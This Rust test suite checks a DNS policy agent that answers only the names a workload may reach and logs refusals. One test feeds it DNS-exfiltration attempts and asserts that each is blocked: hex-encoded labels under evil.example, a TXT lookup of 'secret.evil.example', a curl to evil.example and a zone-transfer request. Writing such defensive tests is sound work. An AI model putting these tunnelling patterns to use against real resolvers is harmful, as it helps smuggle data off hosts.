//! Names, asked for by real programs: those that policy lets a workload reach are answered, and no others leave the host.
use super::*;
use std::net::{IpAddr, Ipv6Addr};
use std::process::Stdio;

const NAMES: &str = r#"
version: 1
workloads: { probe: {}, watched: {}, other: {} }
apis:
  shop: { hosts: [shop.example, "*.wild.example"] }
  many: { hosts: ["*.many.example"] }
  inner: { hosts: [inner.example] }
  pinned: { sni: [pinned.example] }
  theirs: { hosts: [theirs.example] }
roles:
  shopper: [{ api: shop, allow: [{ route: GET /** }] }, { api: many, allow: [{ route: GET /** }] }, { api: inner, allow: [{ route: GET /** }] }, { api: pinned }]
  other: [{ api: theirs, allow: [{ route: GET /** }] }]
grants:
  - { role: shopper, to: { workload: probe } }
  - { role: shopper, to: { workload: watched }, mode: observe }
  - { role: other, to: { workload: other } }
"#;

const V4: Ipv4Addr = Ipv4Addr::new(93, 184, 216, 50);
const V6: Ipv6Addr = Ipv6Addr::new(0x2606, 0x2800, 0x220, 1, 0, 0, 0, 0x50);
/// A name fails for good before a C library's first time-out.
const AT_ONCE: f64 = 2_500.0;

/// A name so long that its sixteen addresses do not fit a plain datagram.
const MANY: &str = "long-enough-that-sixteen-addresses-do-not-fit.many.example";

const TXT: u16 = 16;
const AAAA: u16 = 28;
const AXFR: u16 = 252;

struct Names {
    client: Running,
    agent: Agent,
    world: World,
}

impl Names {
    fn new() -> Self {
        Self::of("probe")
    }

    fn of(workload: &str) -> Self {
        let world = World::new().unwrap();
        let both: Vec<IpAddr> = vec![V4.into(), V6.into()];
        for name in [
            "shop.example",
            "a.wild.example",
            "pinned.example",
            "theirs.example",
            "free.example",
        ] {
            world.dns.set(name, Answer::Addresses(both.clone()));
        }
        let many = (1..=16).map(|n| Ipv6Addr::new(0x2606, 0x2800, 0, 0, 0, 0, 0, n).into());
        world.dns.set(MANY, Answer::Addresses(many.collect()));
        world.dns.set(
            "inner.example",
            Answer::Addresses(vec![Ipv4Addr::new(10, 0, 0, 1).into()]),
        );
        let mut agent = Agent::new(&world, NAMES).unwrap();
        agent.start(&world).unwrap();
        world
            .show(&repository().join("tests/clients"), "clients")
            .unwrap();
        let client = Self::client(&world, &agent, workload);
        Self {
            client,
            agent,
            world,
        }
    }

    fn client(world: &World, agent: &Agent, workload: &str) -> Running {
        let mut command = agent.governed(world, workload, "python3");
        command.arg(world.directory().join("clients/names.py"));
        Running::start(command).unwrap()
    }

    fn ask(&mut self, command: Value) -> Value {
        self.client.ask(&command.to_string()).unwrap()
    }

    fn lookup(&mut self, name: &str) -> Value {
        self.ask(json!({"do": "lookup", "host": name}))
    }

    /// What a program prints that runs governed.
    fn prints(&self, program: &str, arguments: &[&str]) -> String {
        let mut command = self.agent.governed(&self.world, "probe", program);
        let output = command
            .args(arguments)
            .stdin(Stdio::null())
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).trim().to_owned()
    }

    /// The records of names, oldest first, once there are so many.
    fn records(&self, enough: usize) -> Vec<Value> {
        let found = eventually(Duration::from_secs(5), || {
            let mut all = self.agent.decisions(&self.world).unwrap();
            all.retain(|record| record["reason"]["code"] == "dns_name");
            (all.len() >= enough).then_some(all)
        });
        found.unwrap_or_else(|| panic!("{:#?}", self.agent.decisions(&self.world)))
    }
}

fn addresses() -> Value {
    json!([V6.to_string(), V4.to_string()])
}

fn sorted(mut value: Value) -> Value {
    if let Some(list) = value.as_array_mut() {
        list.sort_by_key(|text| std::cmp::Reverse(text.to_string()));
    }
    value
}

#[test]
fn real_programs_learn_the_names_that_they_may_reach() {
    let mut names = Names::new();
    for name in [
        "shop.example",
        "SHOP.example",
        "a.wild.example",
        "pinned.example",
    ] {
        let found = names.lookup(name);
        let mut expected = [V4.to_string(), V6.to_string()];
        expected.sort();
        assert_eq!(found["addresses"], json!(expected), "{name}");
    }
    // Where an address may be is decided when it is connected to: the agent looks itself.
    assert_eq!(
        names.lookup("inner.example")["addresses"],
        json!(["10.0.0.1"])
    );
    let script = "const { Resolver } = require('dns').promises, r = new Resolver();
Promise.all([r.resolve4('shop.example'), r.resolve6('shop.example')]).then(a => console.log(a.flat().join(' ')))";
    assert_eq!(names.prints("node", &["-e", script]), format!("{V4} {V6}"));
    let script =
        "require('dns').lookup('shop.example', { family: 4 }, (e, a) => console.log(e?.code, a))";
    assert_eq!(
        names.prints("node", &["-e", script]),
        format!("undefined {V4}")
    );
    // An answer too large for a datagram is asked for again over TCP.
    assert_eq!(
        names.lookup(MANY)["addresses"].as_array().map(Vec::len),
        Some(16)
    );
    assert!(
        names
            .agent
            .decisions(&names.world)
            .unwrap()
            .iter()
            .all(|record| record["reason"]["code"] != "dns_name")
    );
}

#[test]
fn every_way_of_asking_is_answered_from_where_it_was_asked() {
    let mut names = Names::new();
    let resolver = names.world.resolver().to_string();
    // Nobody answers at these; the agent does.
    for server in [
        resolver.as_str(),
        "127.0.0.53",
        "198.51.100.53",
        "2001:db8::53",
        "::1",
    ] {
        for over in ["udp", "connected", "tcp"] {
            let answer = names
                .ask(json!({"do": "raw", "name": "sHop.Example", "over": over, "server": server}));
            let got = [&answer["code"], &answer["answers"], &answer["id"]];
            assert_eq!(
                got,
                [&json!(0), &json!(1), &json!(1234)],
                "{server} {over}: {answer}"
            );
            assert_eq!(answer["from"], json!([server, 53]), "{over}");
            assert!(
                answer["text"]
                    .as_str()
                    .unwrap()
                    .contains("\u{4}sHop\u{7}Example\0"),
                "the case that was asked in"
            );
        }
    }
    let cut = names.ask(json!({"do": "raw", "name": MANY, "kind": AAAA}));
    assert_eq!((&cut["cut"], &cut["answers"]), (&json!(true), &json!(0)));
    let whole = names.ask(json!({"do": "raw", "name": MANY, "kind": AAAA, "edns": 4096}));
    assert_eq!(
        (&whole["cut"], &whole["answers"]),
        (&json!(false), &json!(16))
    );
    for (kind, count) in [(1, 1), (AAAA, 1), (TXT, 0)] {
        let answer = names.ask(json!({"do": "raw", "name": "localhost", "kind": kind}));
        assert_eq!(
            [&answer["code"], &answer["answers"]],
            [0, count],
            "{answer}"
        );
    }
    for kind in [TXT, 12, 15, 33, 64, 65, 255] {
        let answer = names.ask(json!({"do": "raw", "name": "shop.example", "kind": kind}));
        assert_eq!([&answer["code"], &answer["answers"]], [0, 0], "{kind}");
    }
    let none = names.ask(json!({"do": "raw", "name": "none.wild.example"}));
    assert_eq!(none["code"], 3, "it does not exist");
    names.world.dns.set("mute.wild.example", Answer::Failure);
    assert_eq!(
        names.ask(json!({"do": "raw", "name": "mute.wild.example"}))["code"],
        2
    );
    names.world.dns.keep(86_400);
    names
        .world
        .dns
        .set("kept.wild.example", Answer::Addresses(vec![V4.into()]));
    let kept = names.ask(json!({"do": "raw", "name": "kept.wild.example"}));
    assert_eq!(kept["ttl"], 60, "however long its server says");
}

impl Names {
    /// The seconds that an answer may be kept, and its address as it stands in there.
    fn answered(&mut self, name: &str) -> (u64, bool) {
        let answer = self.ask(json!({"do": "raw", "name": name}));
        assert_eq!([&answer["code"], &answer["answers"]], [0, 1], "{answer}");
        let wire: String = V4.octets().iter().map(|&byte| char::from(byte)).collect();
        let is_first = answer["text"].as_str().unwrap().ends_with(&wire);
        (answer["ttl"].as_u64().unwrap(), is_first)
    }
}

/// What a worker remembers is as old as when it was asked for, and tells its client so.
#[test]
fn answers_grow_old_where_they_are_kept() {
    let mut names = Names::new();
    let other = || Answer::Addresses(vec![Ipv4Addr::new(93, 184, 216, 51).into()]);
    for (name, says) in [("long.wild.example", 86_400), ("short.wild.example", 1)] {
        names.world.dns.keep(says);
        names
            .world
            .dns
            .set(name, Answer::Addresses(vec![V4.into()]));
        let whole = u64::from(says.min(60));
        // Each of the two workers remembers by itself.
        let both = eventually(Duration::from_secs(5), || {
            let (seconds, is_first) = names.answered(name);
            assert!(is_first && seconds <= whole, "{name}: {seconds}");
            (names.world.dns.queries_for(name) >= 2).then_some(())
        });
        assert!(both.is_some(), "{name} is not asked for");
        let asked = names.world.dns.queries_for(name);
        names.world.dns.set(name, other());
        std::thread::sleep(Duration::from_millis(2_100));
        let later: Vec<_> = (0..8).map(|_| names.answered(name)).collect();
        let again = names.world.dns.queries_for(name) - asked;
        match says {
            1 => {
                assert!(later.iter().all(|(_, is_first)| !is_first), "{later:?}");
                assert!(again > 0, "nobody was asked");
            }
            _ => {
                let older =
                    |(seconds, is_first): &(u64, bool)| *is_first && (1..=58).contains(seconds);
                assert!(later.iter().all(older), "{later:?}");
                assert_eq!(again, 0, "it is known");
            }
        }
    }
}

/// What a program might write into names to get it out.
fn smuggled() -> Vec<String> {
    let long = "deadbeef".repeat(7);
    vec![
        format!("{long}.{long}.{long}.evil.example"),
        format!("{long}.shop.example"),
        "a.b.wild.example".to_owned(),
        "_acme-challenge.shop.example".to_owned(),
        "evil.example".to_owned(),
        "theirs.example".to_owned(),
        "example".to_owned(),
    ]
}

#[test]
fn other_names_do_not_leave_the_host() {
    let mut names = Names::new();
    for name in smuggled() {
        let found = names.lookup(&name);
        assert_eq!(found["failed"], "EAI_NONAME", "{name}: {found}");
        assert!(found["ms"].as_f64().unwrap() < AT_ONCE, "{found}");
        for over in ["udp", "connected", "tcp"] {
            for kind in [1, TXT, AAAA, 255] {
                let command =
                    json!({"do": "raw", "name": name, "kind": kind, "over": over, "edns": 1232});
                let answer = names.ask(command);
                assert_eq!(
                    [&answer["code"], &answer["answers"]],
                    [3, 0],
                    "{name} {over}: {answer}"
                );
                let text = answer["text"].as_str().unwrap();
                assert!(
                    text.contains("host") && text.contains("api"),
                    "it says why: {answer}"
                );
            }
        }
    }
    let reverse = names.ask(json!({"do": "reverse", "address": V4.to_string()}));
    assert_eq!(reverse["failed"], "herror", "{reverse}");
    let script = "require('dns').resolve4('evil.example', (e, a) => console.log(e?.code, a))";
    assert_eq!(names.prints("node", &["-e", script]), "ENOTFOUND undefined");
    let script =
        "require('dns').resolveTxt('secret.evil.example', (e, a) => console.log(e?.code, a))";
    assert_eq!(names.prints("node", &["-e", script]), "ENOTFOUND undefined");
    let curl = names.prints(
        "curl",
        &[
            "-s",
            "-o",
            "/dev/null",
            "-w",
            "%{exitcode} %{time_total}",
            "https://evil.example/",
        ],
    );
    let (exit, took) = curl.split_once(' ').unwrap();
    assert_eq!(exit, "6", "it could not resolve the host");
    assert!(took.parse::<f64>().unwrap() < 2.5, "{curl}");
    for (what, hex) in [
        ("two bytes", "abcd"),
        ("noise", "00ff00ff00ff00ff00ff00ff00ff00ff"),
        ("an answer", "abcd81800001000000000000"),
    ] {
        let answer = names.ask(json!({"do": "raw", "hex": hex, "wait": 0.3}));
        assert!(
            answer.get("error").is_some() || answer["code"] != 0,
            "{what}: {answer}"
        );
    }

    let zone =
        names.ask(json!({"do": "raw", "name": "zone.evil.example", "kind": AXFR, "over": "tcp"}));
    assert_eq!([&zone["code"], &zone["answers"]], [5, 0], "{zone}");

    let records = names.records(9);
    let zone = |record: &Value| {
        let request = &record["request"];
        request["host"] == "zone.evil.example" && request["method"] == "AXFR"
    };
    assert!(records.iter().any(zone), "{records:?}");
    for name in smuggled() {
        let of_it: Vec<_> = records
            .iter()
            .filter(|record| record["request"]["host"] == *name)
            .collect();
        let by = |record: &Value, program| {
            let exe = record["process"]["exe"].as_str();
            exe.is_some_and(|exe| exe.contains(program))
        };
        assert!(
            of_it.iter().any(|record| by(record, "python3")),
            "{name} is on record"
        );
        for record in of_it {
            assert_eq!(record["verdict"], "DENY");
            assert_eq!(record["workload"], "probe");
            assert_eq!(record["coverage"], "dns");
            assert_eq!(record["request"]["scheme"], "dns");
            assert_eq!(record["request"]["port"], 53);
        }
    }
    let theirs = records
        .iter()
        .find(|record| record["request"]["host"] == "theirs.example");
    let why = theirs.unwrap()["reason"]["detail"].as_str().unwrap();
    assert!(
        why.contains("api `theirs`") && why.contains("grants:"),
        "{why}"
    );
    assert!(
        names.world.dns.asked().is_empty(),
        "{:?}",
        names.world.dns.asked()
    );
    // It is the fence that keeps them.
    let mut free = names.world.client("python3");
    free.arg(names.world.directory().join("clients/names.py"));
    let mut free = Running::start(free).unwrap();
    assert_eq!(
        free.ask(&json!({"do": "lookup", "host": "evil.example"}).to_string())
            .unwrap()["failed"],
        "EAI_NONAME"
    );
    let found = free
        .ask(&json!({"do": "lookup", "host": "free.example"}).to_string())
        .unwrap();
    assert_eq!(sorted(found["addresses"].clone()), sorted(addresses()));
    assert_eq!(names.world.dns.asked(), ["evil.example", "free.example"]);
}

#[test]
fn the_same_name_over_and_over_is_recorded_once_a_second() {
    let mut names = Names::new();
    let began = std::time::Instant::now();
    for _ in 0..200 {
        assert_eq!(
            names.ask(json!({"do": "raw", "name": "evil.example"}))["code"],
            3
        );
    }
    let seconds = began.elapsed().as_secs() as usize;
    let recorded = names.records(1).len();
    // Each of the two workers remembers by itself.
    assert!(recorded <= 2 * (seconds + 1), "{recorded} in {seconds} s");
    let status = names
        .agent
        .output(&names.world, "status", &["-o", "json"])
        .unwrap();
    let status: Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(
        status["unrecorded_refusals"],
        200 - recorded,
        "the rest is counted"
    );
    for layer in ["names", "recvmsg4", "recvmsg6"] {
        let layers = status["layers"].as_array().unwrap();
        assert!(
            layers
                .iter()
                .any(|found| found["name"] == layer && found["enforcing"] == true),
            "{layer}"
        );
    }
}

#[test]
fn observed_names_pass_and_are_on_record() {
    let mut names = Names::of("watched");
    let found = names.lookup("free.example");
    assert_eq!(
        sorted(found["addresses"].clone()),
        sorted(addresses()),
        "{found}"
    );
    let record = &names.records(1)[0];
    assert_eq!(
        (&record["verdict"], &record["mode"]),
        (&json!("WOULD-DENY"), &json!("observe"))
    );
    assert_eq!(names.world.dns.asked(), ["free.example"]);
    // What no host can be named, nobody is asked about, under observation too.
    assert_eq!(names.lookup("_x.free.example")["failed"], "EAI_NONAME");
    assert_eq!(names.world.dns.asked(), ["free.example"]);
}

#[test]
fn another_policy_holds_from_the_next_query_on() {
    let mut names = Names::new();
    assert_eq!(names.lookup("theirs.example")["failed"], "EAI_NONAME");
    let reload = |names: &Names, policy: &str| {
        names.agent.write_policy(policy).unwrap();
        assert!(
            names
                .agent
                .output(&names.world, "reload", &[])
                .unwrap()
                .status
                .success()
        );
    };
    let more = NAMES.replace(
        "role: other, to: { workload: other }",
        "role: other, to: { workload: [other, probe] }",
    );
    reload(&names, &more);
    assert!(names.lookup("theirs.example")["addresses"].is_array());
    reload(&names, NAMES);
    assert_eq!(names.lookup("theirs.example")["failed"], "EAI_NONAME");
    let explain = names.records(1).pop().unwrap();
    let id = explain["id"].as_str().unwrap();
    reload(&names, &more);
    let said = names.agent.output(&names.world, "explain", &[id]);
    let said = said
        .map(|output| String::from_utf8_lossy(&output.stdout).into_owned())
        .unwrap();
    assert!(said.contains("now: ALLOW"), "{said}");
}

#[test]
fn without_an_agent_names_fail_at_once() {
    let mut names = Names::new();
    assert!(names.lookup("shop.example")["addresses"].is_array());
    names.agent.kill().unwrap();
    let found = names.lookup("shop.example");
    assert_eq!(found["failed"], "EAI_AGAIN", "{found}");
    assert!(found["ms"].as_f64().unwrap() < 500.0, "{found}");
    for over in ["udp", "connected", "tcp"] {
        let answer = names.ask(json!({"do": "raw", "name": "shop.example", "over": over}));
        assert!(
            answer["error"].as_str().unwrap().contains("refused"),
            "{answer}"
        );
        assert!(answer["ms"].as_f64().unwrap() < 50.0, "{answer}");
    }
    let asked = names.world.dns.queries();
    names.agent.start(&names.world).unwrap();
    assert!(names.lookup("shop.example")["addresses"].is_array());
    assert!(names.world.dns.queries() > asked);
}
